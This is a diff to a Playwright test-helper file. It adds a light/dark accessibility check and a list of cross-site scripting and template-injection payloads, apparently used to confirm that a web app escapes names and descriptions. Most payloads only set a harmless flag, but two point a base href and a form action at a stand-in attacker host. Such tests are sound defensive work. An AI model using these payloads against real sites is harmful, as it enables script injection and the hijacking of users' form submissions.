@@ -84,6 +84,37 @@ export async function sidewaysOverflow(page: Page): Promise<number> {
   )
 }
 
+/** Accessible in light and in dark, and nothing cut at the width there is. */
+export async function assertAccessible(t: Test, page: Page, name: string): Promise<void> {
+  for (const colorScheme of ['light', 'dark'] as const) {
+    await page.emulateMedia({ colorScheme })
+    t.strictSame(await accessibilityFindings(page), [], `${name}, ${colorScheme}`)
+  }
+  t.equal(await sidewaysOverflow(page), 0, `${name} fits`)
+}
+
+/** What others may put into names and descriptions, hoping that a page runs it as `pwned=1`. */
+export const payloads: readonly string[] = [
+  '<script>pwned=1</script>',
+  '"><script>pwned=1</script>',
+  "'><img src=x onerror=pwned=1>",
+  '<svg/onload=pwned=1>',
+  '</title><script>pwned=1</script>',
+  '</textarea><script>pwned=1</script>',
+  '" autofocus onfocus="pwned=1',
+  "' onmouseover='pwned=1",
+  'javascript:pwned=1',
+  '<%= it.member.csrf %>',
+  '<% pwned=1 %>',
+  '{{constructor.constructor("pwned=1")()}}',
+  ['$', '{pwned=1}'].join(''),
+  '&lt;script&gt;pwned=1&lt;/script&gt;',
+  '<!--<script>pwned=1</script>-->',
+  '<iframe srcdoc="<script>parent.pwned=1</script>">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><button>',
+]
+
 /** Gives a person the cookie of a session that was opened without them. */
 export async function giveSession(page: Page, url: string, cookie: string): Promise<void> {
   await page.context().addCookies([{ name: 'latchkey', value: cookie, url, httpOnly: true, sameSite: 'Lax' }])
